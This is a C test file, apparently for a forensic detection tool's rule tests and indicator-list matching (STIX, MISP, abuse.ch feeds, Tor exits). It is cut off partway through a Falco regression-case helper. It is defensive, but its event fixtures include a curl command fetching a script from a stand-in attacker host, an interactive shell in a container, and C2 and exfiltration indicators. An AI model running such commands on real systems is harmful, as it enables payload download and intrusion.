/* test-ruletest: `backsight rules test` (rule fixtures run and diffed), indicator lists
 * (`detect --indicators`), Falco's own k8s_audit regression cases as rule fixtures over the
 * corpus traces, and the raw-block cache detect reads json.value fields through. */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "bstime.h"
#include "casedb.h"
#include "import.h"
#include "indicators.h"
#include "rawcache.h"
#include "rawstore.h"
#include "testutil.h"

static char *fixtures(void)
{
	struct strbuf sb = STRBUF_INIT;

	strbuf_addf(&sb, "%s/tests/rules-fixtures", test_source_root());
	return test_keep(strbuf_detach(&sb, NULL));
}

static void write_at(const char *dir, const char *name, const char *text)
{
	struct strbuf p = STRBUF_INIT;

	strbuf_addf(&p, "%s/%s", dir, name);
	cr_assert(test_write_file(p.buf, text, strlen(text)), "%s", p.buf);
	strbuf_release(&p);
}

static char *make_dir(const char *name)
{
	char *d = test_file(name);

	cr_assert(mkdir(d, 0777) == 0 || errno == EEXIST, "%s", d);
	return d;
}

/* ---- rules test ---- */

Test(ruletest, shipped_fixtures_pass)
{
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT;

	cr_expect_eq(test_run(&out, &err, "rules", "test", "-v", fixtures(), NULL), 0, "%s%s", out.buf, err.buf);
	cr_expect_str_eq(out.buf, "PASS indicators\nPASS shell-in-container\nPASS stolen-task-credentials\n"
				  "3 cases: 3 passed, 0 failed, 0 could not run\n");
	strbuf_release(&out);
	strbuf_release(&err);
}

/* The case-wide tags (rule-gate.h) are checked when the rule is compiled: `rules check` names
 * the rule, its line and what is wrong, and exits 1; `detect` still runs the rule set's other
 * rules. */
Test(ruletest, a_malformed_case_wide_tag_names_its_rule)
{
	static const struct {
		const char *tags, *error;
	} table[] = {
		{ "[\"first_seen:\"]", "tags.yaml:7:3: error: rule 'r': tag 'first_seen:' names no field" },
		{ "[first_seen:ct.user.arn++ct.useragent]",
		  "tags.yaml:7:3: error: rule 'r': tag 'first_seen:ct.user.arn++ct.useragent': an empty field name" },
		{ "[baseline:principal]", "tags.yaml:7:3: error: rule 'r': baseline:principal goes with a first_seen tag" },
		{ "[first_seen:ct.user.arn, baseline:host]",
		  "tags.yaml:7:3: error: rule 'r': tag 'baseline:host': the baseline can only be 'principal'" },
		{ "[first_seen:ct.user.arn+ct.useragent@product]",
		  "tags.yaml:7:3: error: rule 'r': first_seen field 'ct.useragent' is not printed by the rule's output "
		  "(add %ct.useragent to it)" },
		{ "[first_seen:ct.user.arn, baseline:principal, outside_workload]", NULL },
	};
	static const char trail[] =
		"{\"Records\":[{\"eventVersion\":\"1.08\",\"eventTime\":\"2026-11-23T02:00:00Z\",\"eventSource\":"
		"\"ec2.amazonaws.com\",\"eventName\":\"DescribeInstances\",\"awsRegion\":\"eu-west-1\",\"sourceIPAddress\":"
		"\"198.51.100.10\",\"userAgent\":\"aws-cli/2.13.0\",\"eventID\":\"e1\",\"userIdentity\":{\"type\":\"IAMUser\","
		"\"arn\":\"arn:aws:iam::111122223333:user/alice\"}}]}\n";
	char *db = test_file("tags.db"), *ct = test_file("tags-trail.json"), *rules = test_file("tags.yaml");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, text = STRBUF_INIT;

	cr_assert(test_write_file(ct, trail, strlen(trail)));
	cr_assert_eq(test_run(&out, &err, "import", "-q", db, ct, NULL), 0, "%s", err.buf);
	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		strbuf_reset(&text);
		/* a good rule first, then r with the tags under test */
		strbuf_addf(&text,
			    "- rule: ok\n  desc: d\n  condition: ct.name = DescribeInstances\n  output: \"%%ct.user.arn\"\n"
			    "  priority: NOTICE\n  source: aws_cloudtrail\n"
			    "- rule: r\n  desc: d\n  condition: ct.name = DescribeInstances\n  output: \"%%ct.user.arn\"\n"
			    "  priority: NOTICE\n  source: aws_cloudtrail\n  tags: %s\n",
			    table[i].tags);
		cr_assert(test_write_file(rules, text.buf, text.len));
		strbuf_reset(&out);
		strbuf_reset(&err);
		int rc = test_run(&out, &err, "rules", "check", rules, NULL);
		if (!table[i].error) {
			cr_expect_eq(rc, 0, "%s: %s", table[i].tags, err.buf);
			continue;
		}
		cr_expect_eq(rc, 1, "%s", table[i].tags);
		cr_expect_not_null(strstr(err.buf, table[i].error), "%s: %s", table[i].tags, err.buf);
		strbuf_reset(&out);
		strbuf_reset(&err);
		cr_expect_eq(test_run(&out, &err, "detect", db, "--rules", rules, NULL), 0, "%s: %s", table[i].tags, err.buf);
		cr_expect_not_null(strstr(out.buf, "1 alerts"), "%s: the good rule still runs: %s", table[i].tags, out.buf);
	}
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&text);
}

/* One fixture tree: a case that passes, one whose counts are off, one naming a rule that is not
 * in the set, one whose rule cannot run, one that is not a valid fixture. */
Test(ruletest, failures_are_diffed_and_the_exit_status_says_so)
{
	char *top = make_dir("fx"), *src = fixtures();
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, p = STRBUF_INIT;
	static const char *const cases[] = { "a-pass", "b-counts", "c-unknown", "d-cannot", "e-broken" };

	for (size_t i = 0; i < 5; i++) {
		strbuf_reset(&p);
		strbuf_addf(&p, "fx/%s", cases[i]);
		make_dir(p.buf);
	}
	strbuf_reset(&p);
	strbuf_addf(&p, "%s/shell-in-container", src);
	write_at(top, "a-pass/test.yaml",
		 "rules: [../../rules.yaml]\nevidence: [../../events.jsonl]\nexpect:\n  Shell in container: 1\n"
		 "  Curl run: 1\n");
	write_at(top, "b-counts/test.yaml",
		 "description: counts are off\nrules: [../../rules.yaml]\nevidence: [../../events.jsonl]\n"
		 "expect:\n  Shell in container: 2\n  Curl run: [1, 3]\n");
	write_at(top, "c-unknown/test.yaml",
		 "rules: [../../rules.yaml]\nevidence: [../../events.jsonl]\nexpect:\n  No such thing: 1\n"
		 "others: ignore\n");
	write_at(top, "d-cannot/test.yaml",
		 "rules: [../../rules.yaml, ../../memfd.yaml]\nevidence: [../../events.jsonl]\n"
		 "expect:\n  Memfd: 1\nothers: ignore\n");
	write_at(top, "e-broken/test.yaml", "rules: [../../rules.yaml]\nexpect: {}\n");
	/* the case directories are two levels below the test's temporary directory */
	{
		struct strbuf c = STRBUF_INIT;
		strbuf_addf(&c, "%s/rules.yaml", p.buf);
		cr_assert(test_read_file(c.buf, &out));
		write_at(test_tmpdir(), "rules.yaml", out.buf);
		strbuf_reset(&out);
		strbuf_reset(&c);
		strbuf_addf(&c, "%s/events.jsonl", p.buf);
		cr_assert(test_read_file(c.buf, &out));
		write_at(test_tmpdir(), "events.jsonl", out.buf);
		strbuf_reset(&out);
		strbuf_release(&c);
	}
	write_at(test_tmpdir(), "memfd.yaml",
		 "- rule: Memfd\n  desc: x\n  condition: evt.type = execve and proc.is_exe_from_memfd = true\n"
		 "  output: x\n  priority: WARNING\n");
	cr_expect_eq(test_run(&out, &err, "rules", "test", top, NULL), 1, "%s%s", out.buf, err.buf);
	strbuf_reset(&p);
	strbuf_addf(&p,
		    "FAIL b-counts (counts are off)\n"
		    "  - Shell in container: expected 2 alerts, got 1\n"
		    "      first: shell bash in 0123456789ab (cmd=bash -i)\n"
		    "  - Curl run: expected alerts on events [1,3], got [2]\n"
		    "FAIL c-unknown\n"
		    "  - No such thing: no such rule\n"
		    "FAIL d-cannot\n"
		    "  - Memfd: expected 1 alert, but the rule could not run: field proc.is_exe_from_memfd is not "
		    "available from the evidence\n"
		    "ERROR e-broken\n"
		    "  %s/e-broken/test.yaml: no 'evidence' to run the rules over\n"
		    "5 cases: 1 passed, 3 failed, 1 could not run\n",
		    top);
	cr_expect_str_eq(out.buf, p.buf);
	strbuf_reset(&out);
	strbuf_reset(&err);
	/* no fixture at all; a usage error */
	cr_expect_eq(test_run(&out, &err, "rules", "test", test_tmpdir(), NULL), 1);
	strbuf_reset(&out);
	strbuf_reset(&err);
	cr_expect_eq(test_run(&out, &err, "rules", "test", "--bogus", top, NULL), 2);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&p);
}

Test(ruletest, keep_leaves_each_case_database)
{
	char *keep = test_file("kept");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, q = STRBUF_INIT;

	cr_assert_eq(test_run(&out, &err, "rules", "test", "--keep", keep, fixtures(), NULL), 0, "%s%s", out.buf,
		     err.buf);
	cr_assert_eq(test_sh(&q, "sqlite3 '%s/shell-in-container.db' 'SELECT rule FROM alerts ORDER BY rule'", keep), 0);
	cr_expect_str_eq(q.buf, "Curl run\nShell in container\n");
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&q);
}

/* ---- indicators ---- */

static const char list_text[] = "# a list\n"
				"203.0.113.50            # one address\n"
				"198.51.100.0/24         # a network\n"
				"2001:db8::/32           # an IPv6 network\n"
				"*.evil.example          # a domain and below\n"
				"domain: c2              # a bare name, forced\n"
				"44d88612fea8a8f36de82e1278abb02f, the EICAR MD5\n"
				"AKIAIOSFODNN7EXAMPLE\n"
				"key: ASIAY34FZKBOKMUTVV7A   # a session key id\n"
				"\n   # indented comment\n";

Test(indicators, kinds_are_recognised_and_matched)
{
	struct indicator_set *s = indicator_set_new();
	struct strbuf err = STRBUF_INIT;
	static const struct {
		const char *text;
		int hit; /* -1: none, else the kind */
		const char *value, *desc;
	} table[] = {
		{ "203.0.113.50", IOC_IP, "203.0.113.50", "one address" },
		{ "203.0.113.51", -1, NULL, NULL },
		{ "198.51.100.7", IOC_IP, "198.51.100.0/24", "a network" },
		{ "::ffff:198.51.100.7", IOC_IP, "198.51.100.0/24", "a network" },
		{ "2001:db8:1::5", IOC_IP, "2001:db8::/32", "an IPv6 network" },
		{ "2001:db9::5", -1, NULL, NULL },
		{ "evil.example", IOC_DOMAIN, "evil.example", "a domain and below" },
		{ "A.B.Evil.Example.", IOC_DOMAIN, "evil.example", "a domain and below" },
		{ "notevil.example", -1, NULL, NULL },
		{ "c2", -1, NULL, NULL }, /* a bare word in evidence is not looked up as a name */
		{ "x.c2", IOC_DOMAIN, "c2", "a bare name, forced" },
		{ "44D88612FEA8A8F36DE82E1278ABB02F", IOC_HASH, "44d88612fea8a8f36de82e1278abb02f", "the EICAR MD5" },
		{ "AKIAIOSFODNN7EXAMPLE", IOC_KEY, "AKIAIOSFODNN7EXAMPLE", "" },
		{ "ASIAY34FZKBOKMUTVV7A", IOC_KEY, "ASIAY34FZKBOKMUTVV7A", "a session key id" },
		{ "AKIAIOSFODNN7EXAMPLF", -1, NULL, NULL },
		{ "", -1, NULL, NULL },
	};

	cr_assert_eq(indicator_set_add_text(s, "l.txt", list_text, strlen(list_text), &err), 0, "%s", err.buf);
	cr_expect_eq(indicator_set_size(s), 8);
	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		enum indicator_kind k;
		const char *v = NULL, *d = NULL, *l = NULL;
		int r = indicator_lookup(s, table[i].text, strlen(table[i].text), &k, &v, &d, &l);
		if (table[i].hit < 0) {
			cr_expect_eq(r, 0, "'%s' hit %s", table[i].text, v);
			continue;
		}
		cr_expect_eq(r, 1, "'%s' did not hit", table[i].text);
		if (r != 1)
			continue;
		cr_expect_eq((int)k, table[i].hit, "%s", table[i].text);
		cr_expect_str_eq(v, table[i].value, "%s", table[i].text);
		cr_expect_str_eq(d, table[i].desc, "%s", table[i].text);
		cr_expect_str_eq(l, "l.txt");
	}
	indicator_set_free(s);
	strbuf_release(&err);
}

/* Feeds in STIX 2.1 and MISP CSV: what each kind of entry becomes (the table), the rest skipped. */
Test(indicators, stix_and_misp_feeds_are_read)
{
	static const char stix[] =
		"{\"type\": \"bundle\", \"id\": \"bundle--1\", \"objects\": [\n"
		" {\"type\": \"indicator\", \"spec_version\": \"2.1\", \"name\": \"C2 server\", \"pattern_type\": \"stix\",\n"
		"  \"pattern\": \"[ipv4-addr:value = '203.0.113.50'] OR [domain-name:value = 'c2.evil.example']\",\n"
		"  \"valid_from\": \"2026-11-01T00:00:00Z\", \"valid_until\": \"2026-12-01T00:00:00Z\"},\n"
		" {\"type\": \"indicator\", \"name\": \"dropper\", \"pattern\": \"[file:hashes.'SHA-256' = "
		"'275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f']\", \"valid_from\": \"2026-01-01T00:00:00Z\"},\n"
		" {\"type\": \"indicator\", \"name\": \"phish\", \"pattern\": \"[url:value = 'https://login.evil.example:8443/x']\","
		" \"valid_from\": \"2026-01-01T00:00:00Z\"},\n"
		" {\"type\": \"indicator\", \"name\": \"yara\", \"pattern_type\": \"yara\", \"pattern\": \"rule x {}\","
		" \"valid_from\": \"2026-01-01T00:00:00Z\"},\n"
		" {\"type\": \"malware\", \"name\": \"not an indicator\"}]}\n";
	static const char misp[] =
		"uuid,event_id,category,type,value,comment,to_ids,date\n"
		"5f1,1,Network activity,ip-dst,198.51.100.9,\"exfil, over https\",1,20261101\n"
		"5f2,1,Network activity,domain|ip,drop.evil.example|192.0.2.77,,1,20261101\n"
		"5f3,1,Payload delivery,md5,44d88612fea8a8f36de82e1278abb02f,eicar,1,20261101\n"
		"5f4,1,Other,text,just words,,0,20261101\n";
	static const struct {
		const char *text, *value, *desc, *list;
	} table[] = {
		{ "203.0.113.50", "203.0.113.50", "C2 server", "iocs.json" },
		{ "x.c2.evil.example", "c2.evil.example", "C2 server", "iocs.json" },
		{ "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F",
		  "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", "dropper", "iocs.json" },
		{ "login.evil.example", "login.evil.example", "phish", "iocs.json" },
		{ "198.51.100.9", "198.51.100.9", "exfil, over https", "misp.csv" },
		{ "drop.evil.example", "drop.evil.example", "", "misp.csv" },
		{ "192.0.2.77", "192.0.2.77", "", "misp.csv" },
		{ "44d88612fea8a8f36de82e1278abb02f", "44d88612fea8a8f36de82e1278abb02f", "eicar", "misp.csv" },
	};
	static const char urlhaus[] =
		"################################################################\n"
		"# abuse.ch URLhaus Database Dump (CSV)                         #\n"
		"################################################################\n"
		"#\n"
		"# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n"
		"\"3210987\",\"2026-11-20 10:00:00\",\"http://dl.evil.example/x.sh\",\"online\",\"\",\"malware_download\","
		"\"sh\",\"https://urlhaus.abuse.ch/url/3210987/\",\"someone\"\n";
	static const char threatfox[] =
		"# ThreatFox IOCs: CSV\n"
		"# \"first_seen_utc\",\"ioc_id\",\"ioc_value\",\"ioc_type\",\"threat_type\",\"fk_malware\"\n"
		"\"2026-11-20 10:00:00\", \"1\", \"192.0.2.200:4444\", \"ip:port\", \"botnet_cc\", \"win.x\"\n";
	static const char feodo[] =
		"# Feodo Tracker\n"
		"# first_seen_utc,dst_ip,dst_port,c2_status,last_online,malware\n"
		"2026-11-20 10:00:00,198.51.100.250,443,online,2026-11-21,QakBot\n";
	struct indicator_set *s = indicator_set_new();
	struct strbuf err = STRBUF_INIT;

	cr_assert_eq(indicator_set_add_text(s, "iocs.json", stix, strlen(stix), &err), 0, "%s", err.buf);
	cr_assert_eq(indicator_set_add_text(s, "misp.csv", misp, strlen(misp), &err), 0, "%s", err.buf);
	cr_expect_eq(indicator_set_size(s), sizeof(table) / sizeof(table[0]), "the yara pattern and the text row are skipped");
	/* abuse.ch's CSV feeds: the indicator column by its header */
	cr_assert_eq(indicator_set_add_text(s, "urlhaus.csv", urlhaus, strlen(urlhaus), &err), 0, "%s", err.buf);
	cr_assert_eq(indicator_set_add_text(s, "threatfox.csv", threatfox, strlen(threatfox), &err), 0, "%s", err.buf);
	cr_assert_eq(indicator_set_add_text(s, "feodo.csv", feodo, strlen(feodo), &err), 0, "%s", err.buf);
	cr_expect_eq(indicator_lookup(s, "dl.evil.example", 15, NULL, NULL, NULL, NULL), 1);
	cr_expect_eq(indicator_lookup(s, "192.0.2.200", 11, NULL, NULL, NULL, NULL), 1);
	cr_expect_eq(indicator_lookup(s, "198.51.100.250", 14, NULL, NULL, NULL, NULL), 1);
	cr_expect_eq(indicator_set_size(s), sizeof(table) / sizeof(table[0]) + 3);
	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		const char *v = NULL, *d = NULL, *l = NULL;
		cr_expect_eq(indicator_lookup(s, table[i].text, strlen(table[i].text), NULL, &v, &d, &l), 1, "%s", table[i].text);
		if (!v)
			continue;
		cr_expect_str_eq(v, table[i].value, "%s", table[i].text);
		cr_expect_str_eq(d, table[i].desc, "%s", table[i].text);
		cr_expect_str_eq(l, table[i].list, "%s", table[i].text);
	}
	indicator_set_free(s);
	strbuf_release(&err);
}

/* A feed's validity: an indicator hits only the events inside it. */
Test(indicators, a_feed_indicator_hits_only_while_valid)
{
	static const char stix[] =
		"{\"type\": \"bundle\", \"objects\": [{\"type\": \"indicator\", \"name\": \"C2 for November\","
		" \"pattern\": \"[ipv4-addr:value = '203.0.113.50']\", \"valid_from\": \"2026-11-01T00:00:00Z\","
		" \"valid_until\": \"2026-12-01T00:00:00Z\"}]}\n";
	static const char timeline[] =
		"{\"ts_ns\":1795400000000000000,\"ts_precision\":1000,\"source\":\"network\",\"type\":\"conn\",\"host\":\"web-1\","
		"\"src_ip\":\"10.0.0.5\",\"dst_ip\":\"203.0.113.50\",\"dst_port\":443,\"summary\":\"in November\"}\n"
		"{\"ts_ns\":1830000000000000000,\"ts_precision\":1000,\"source\":\"network\",\"type\":\"conn\",\"host\":\"web-1\","
		"\"src_ip\":\"10.0.0.5\",\"dst_ip\":\"203.0.113.50\",\"dst_port\":443,\"summary\":\"a year later\"}\n";
	char *feed = test_file("feed.json"), *ev = test_file("net.jsonl"), *db = test_file("valid.db");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT;

	cr_assert(test_write_file(feed, stix, strlen(stix)));
	cr_assert(test_write_file(ev, timeline, strlen(timeline)));
	cr_assert_eq(test_run(&out, &err, "import", "-q", db, ev, NULL), 0, "%s", err.buf);
	strbuf_reset(&out);
	cr_assert_eq(test_run(&out, &err, "detect", "-q", "-i", feed, db, NULL), 0, "%s", err.buf);
	cr_expect_not_null(strstr(out.buf, "indicators: 1 from 1 list, 1 hit"), "%s", out.buf);
	strbuf_release(&out);
	strbuf_release(&err);
}

/* A Tor exit list (TorDNSEL's format): each ExitAddress is a hit from a day before the date the
 * exit was seen to a day after it (or after LastStatus when later); an address seen on two dates
 * spans both; the node's other lines are not indicators. */
Test(indicators, tor_exit_addresses_are_valid_a_day_either_side_of_their_date)
{
	static const char exits[] =
		"@type tordnsel 1.0\n"
		"Downloaded 2024-01-10 12:00:00\n"
		"ExitNode 0011BD2485AD45D984EC4159C88FC066E5E3300E\n"
		"Published 2024-01-09 20:00:00\n"
		"LastStatus 2024-01-10 11:00:00\n"
		"ExitAddress 198.51.100.201 2024-01-10 01:02:03\n"
		"ExitNode 0097CA7E3B2F1A5E1F6C1E1E0C2E8C0E3A9C1B2D\n"
		"Published 2024-01-01 00:00:00\n"
		"LastStatus 2024-01-01 01:00:00\n"
		"ExitAddress 198.51.100.202 2024-01-01 00:30:00\n"
		"ExitAddress 2001:db8::7 2024-01-01 00:40:00\n"
		"ExitNode 1111BD2485AD45D984EC4159C88FC066E5E3300E\n"
		"ExitAddress 198.51.100.202 2024-01-05 00:30:00\n";
	static const struct {
		const char *ip, *when;
		int valid;
	} table[] = {
		{ "198.51.100.201", "2024-01-10T01:02:03Z", 1 },  /* the sighting */
		{ "198.51.100.201", "2024-01-09T01:02:04Z", 1 },  /* a day before */
		{ "198.51.100.201", "2024-01-09T01:02:02Z", 0 },  /* more than a day before */
		{ "198.51.100.201", "2024-01-11T10:59:59Z", 1 },  /* LastStatus + a day */
		{ "198.51.100.201", "2024-01-11T11:00:00Z", 0 },  /* past it */
		{ "198.51.100.202", "2024-01-03T00:00:00Z", 1 },  /* between its two sightings */
		{ "198.51.100.202", "2024-01-06T00:29:59Z", 1 },
		{ "198.51.100.202", "2024-01-06T00:30:00Z", 0 },
		{ "198.51.100.202", "2023-12-30T23:00:00Z", 0 },
		{ "2001:db8::7", "2024-01-01T12:00:00Z", 1 },
		{ "2001:db8::7", "2024-03-01T12:00:00Z", 0 },
		{ "198.51.100.203", "2024-01-10T01:02:03Z", 0 },  /* not an exit */
	};
	struct indicator_set *s = indicator_set_new();
	struct strbuf err = STRBUF_INIT;
	const char *desc = NULL;

	cr_assert_eq(indicator_set_add_text(s, "exit-addresses", exits, strlen(exits), &err), 0, "%s", err.buf);
	cr_expect_eq(indicator_set_size(s), 3, "two IPv4 exits and one IPv6; the fingerprints are not indicators");
	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		int64_t ts, prec;
		cr_assert_eq(bs_time_parse(table[i].when, strlen(table[i].when), 0, &ts, &prec), 0);
		cr_expect_eq(indicator_valid_at(s, table[i].ip, strlen(table[i].ip), ts), table[i].valid, "%s at %s",
			     table[i].ip, table[i].when);
	}
	cr_expect_eq(indicator_lookup(s, "198.51.100.201", 14, NULL, NULL, &desc, NULL), 1);
	cr_expect_str_eq(desc, "Tor exit 0011BD2485AD45D984EC4159C88FC066E5E3300E seen exiting 2024-01-10 01:02:03");
	indicator_set_free(s);
	/* a damaged date is an error naming the line */
	s = indicator_set_new();
	strbuf_reset(&err);
	cr_expect_eq(indicator_set_add_text(s, "x", "ExitNode AB\nExitAddress 198.51.100.9 2024-13-01\n", 48, &err), -EINVAL);
	cr_expect_str_eq(err.buf, "x:2: ExitAddress date is not YYYY-MM-DD HH:MM:SS");
	indicator_set_free(s);
	strbuf_release(&err);
}

Test(indicators, a_bad_line_names_its_file_and_line)
{
	static const struct {
		const char *text, *error;
	} table[] = {
		{ "1.2.3.4\nnot an indicator!\n", "l.txt:2: 'not' is not an IP address or network, a domain, a "
						 "file hash (MD5, SHA-1, SHA-256) or an access key id" },
		{ "ip: evil.example\n", "l.txt:1: 'evil.example' is not an IP address or network" },
		{ "10.0.0.0/33\n", "l.txt:1: '10.0.0.0/33' is not an IP address or network, a domain, a file hash (MD5, "
				   "SHA-1, SHA-256) or an access key id" },
		{ "hash: abc\n", "l.txt:1: 'abc' is not a file hash (32, 40 or 64 hex digits)" },
		{ "key: AKIA\n", "l.txt:1: 'AKIA' is not an access key id (AKIA… or ASIA…, 20 characters)" },
	};

	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		struct indicator_set *s = indicator_set_new();
		struct strbuf err = STRBUF_INIT;
		cr_expect_eq(indicator_set_add_text(s, "l.txt", table[i].text, strlen(table[i].text), &err), -EINVAL);
		cr_expect_str_eq(err.buf, table[i].error);
		indicator_set_free(s);
		strbuf_release(&err);
	}
}

static const char ioc_events[] =
	"{\"ts_ns\":1700000000000000000,\"source\":\"syscall\",\"type\":\"execve\",\"summary\":\"execve\",\"host\":\"web-1\","
	"\"pid\":11,\"proc_name\":\"curl\",\"cmdline\":\"curl -s http://dl.evil.example:8080/x.sh -o /tmp/x\"}\n"
	"{\"ts_ns\":1700000001000000000,\"source\":\"syscall\",\"type\":\"connect\",\"summary\":\"connect\",\"host\":\"web-1\","
	"\"pid\":11,\"proc_name\":\"curl\",\"dst_ip\":\"198.51.100.9\",\"dst_port\":8080}\n"
	"{\"ts_ns\":1700000002000000000,\"source\":\"network\",\"type\":\"dns\",\"summary\":\"dns\",\"host\":\"web-1\","
	"\"src_ip\":\"10.0.0.5\",\"dst_ip\":\"10.0.0.2\",\"fields\":{\"dns.query\":\"www.evil.example\","
	"\"dns.answers\":[\"203.0.113.50\"]}}\n"
	"{\"ts_ns\":1700000003000000000,\"source\":\"aws_cloudtrail\",\"type\":\"ListBuckets\",\"summary\":\"ListBuckets\","
	"\"src_ip\":\"203.0.113.50\",\"access_key_id\":\"AKIAIOSFODNN7EXAMPLE\",\"principal\":\"arn:aws:iam::1:user/a\"}\n"
	"{\"ts_ns\":1700000004000000000,\"source\":\"syscall\",\"type\":\"execve\",\"summary\":\"execve\",\"host\":\"web-1\","
	"\"pid\":12,\"proc_name\":\"ls\",\"cmdline\":\"ls -l /tmp\"}\n";

Test(indicators, detect_stores_hits_as_alerts_and_findings_name_them)
{
	char *tl = test_file("ioc.jsonl"), *db = test_file("ioc.db"), *list = test_file("l.txt");
	char *rules = test_file("none.yaml");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, q = STRBUF_INIT;

	cr_assert(test_write_file(tl, ioc_events, strlen(ioc_events)));
	cr_assert(test_write_file(list, list_text, strlen(list_text)));
	cr_assert(test_write_file(rules, "[]\n", 3));
	cr_assert_eq(test_run(&out, &err, "import", "-q", db, tl, NULL), 0, "%s", err.buf);
	cr_assert_eq(test_run(&out, &err, "detect", "-q", "--rules", rules, "--indicators", list, db, NULL), 0, "%s",
		     err.buf);
	cr_expect(strstr(out.buf, "indicators: 8 from 1 list, 6 hits\n"), "%s", out.buf);
	cr_assert_eq(test_sh(&q,
			     "sqlite3 '%s' \"SELECT event_id, rule, json_extract(output_fields, '$.indicator'),"
			     " json_extract(output_fields, '$.\\\"indicator.field\\\"'),"
			     " json_extract(output_fields, '$.\\\"indicator.seen\\\"') FROM alerts ORDER BY event_id, rule\"",
			     db),
		     0);
	cr_expect_str_eq(q.buf, "1|Indicator match: domain|evil.example|cmdline|dl.evil.example\n"
				"2|Indicator match: IP address|198.51.100.0/24|dst_ip|198.51.100.9\n"
				"3|Indicator match: IP address|203.0.113.50|dns.answers|203.0.113.50\n"
				"3|Indicator match: domain|evil.example|dns.query|www.evil.example\n"
				"4|Indicator match: IP address|203.0.113.50|src_ip|203.0.113.50\n"
				"4|Indicator match: access key|AKIAIOSFODNN7EXAMPLE|access_key_id|AKIAIOSFODNN7EXAMPLE\n");
	strbuf_reset(&q);
	/* the run records the list; GuardDuty's custom-threat-list types where it has one */
	cr_assert_eq(test_sh(&q,
			     "sqlite3 '%s' \"SELECT json_extract(inputs, '$.indicators[0].ip'),"
			     " json_extract(inputs, '$.indicators[0].sha256') = '%s' FROM runs;"
			     " SELECT DISTINCT tags FROM alerts WHERE event_id = 4 ORDER BY tags;\"",
			     db, "ignored"),
		     0);
	cr_expect(!strncmp(q.buf, "3|0\n", 4), "%s", q.buf);
	cr_expect(strstr(q.buf, "guardduty:UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom"), "%s", q.buf);
	strbuf_reset(&q);
	/* hits become findings like any alert */
	strbuf_reset(&out);
	cr_assert_eq(test_run(&out, &err, "analyze", db, NULL), 0, "%s", err.buf);
	cr_assert_eq(test_sh(&q, "sqlite3 '%s' \"SELECT DISTINCT type FROM findings ORDER BY type\"", db), 0);
	cr_expect_str_eq(q.buf, "Indicator match: access key\nIndicator match: domain\n"
				"UnauthorizedAccess:EC2/MaliciousIPCaller.Custom\n"
				"UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom\n");
	/* the report lists every indicator seen, once, with its hits */
	strbuf_reset(&out);
	cr_assert_eq(test_run(&out, &err, "report", "-F", "md", db, NULL), 0, "%s", err.buf);
	cr_expect(strstr(out.buf, "## Indicators\n"), "%s", out.buf);
	cr_expect(strstr(out.buf, "| 203.0.113.50 | ip | "), "%s", out.buf);
	cr_expect(strstr(out.buf, " | one address | 2 | 2023-11-14T22:13:22.000000000Z | 2023-11-14T22:13:23.000000000Z | 203.0.113.50 | "
				  "dns.answers,src\\_ip |\n"),
		  "%s", out.buf);
	/* a list that cannot be read stops detect before it runs */
	strbuf_reset(&err);
	cr_expect_eq(test_run(&out, &err, "detect", "-q", "--indicators", "/nonexistent.txt", db, NULL), 1);
	cr_expect(strstr(err.buf, "cannot open indicator list '/nonexistent.txt'"), "%s", err.buf);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&q);
}

Test(indicators, investigate_takes_lists_and_its_report_shows_the_hits)
{
	char *tl = test_file("inv.jsonl"), *list = test_file("inv.txt"), *outdir = test_file("inv-out");
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT, md = STRBUF_INIT, p = STRBUF_INIT;

	cr_assert(test_write_file(tl, ioc_events, strlen(ioc_events)));
	cr_assert(test_write_file(list, list_text, strlen(list_text)));
	cr_assert_eq(test_run(&out, &err, "investigate", "-q", "-i", list, "-o", outdir, tl, NULL), 0, "%s", err.buf);
	strbuf_addf(&p, "%s/report.md", outdir);
	cr_assert(test_read_file(p.buf, &md));
	cr_expect(strstr(md.buf, "| evil.example | domain | "), "%s", md.buf);
	cr_expect(strstr(md.buf, "| AKIAIOSFODNN7EXAMPLE | access key | "), "%s", md.buf);
	strbuf_reset(&p);
	strbuf_addf(&p, "%s/report.html", outdir);
	strbuf_reset(&md);
	cr_assert(test_read_file(p.buf, &md));
	cr_expect(strstr(md.buf, "<section id=\"indicators\"></section>"));
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&md);
	strbuf_release(&p);
}

/* ---- Falco's k8s_audit regression cases ---- */

/* Rules the oracle names by their names of its time; upstream has since split each in two
 * (Role / ClusterRole), and the oracle's traces are all of the cluster-wide kind. */
static const struct {
	const char *old, *now;
} renamed[] = {
	{ "K8s Role/Clusterrole Created", "K8s ClusterRole Created" },
	{ "K8s Role/Clusterrole Deleted", "K8s ClusterRole Deleted" },
	{ "K8s Role/Clusterrolebinding Created", "K8s ClusterRoleBinding Created" },
	{ "K8s Role/Clusterrolebinding Deleted", "K8s ClusterRoleBinding Deleted" },
};

struct oracle_case {
	char name[128], trace[256];
	bool detect, skip;
	struct strbuf rules, expect;
};

static void emit_case(const char *top, struct oracle_case *c, size_t *made, size_t *skipped)
{
	struct strbuf dir = STRBUF_INIT, text = STRBUF_INIT;

	if (!c->name[0])
		return;
	if (c->skip || !c->trace[0]) {
		(*skipped)++;
		goto out;
	}
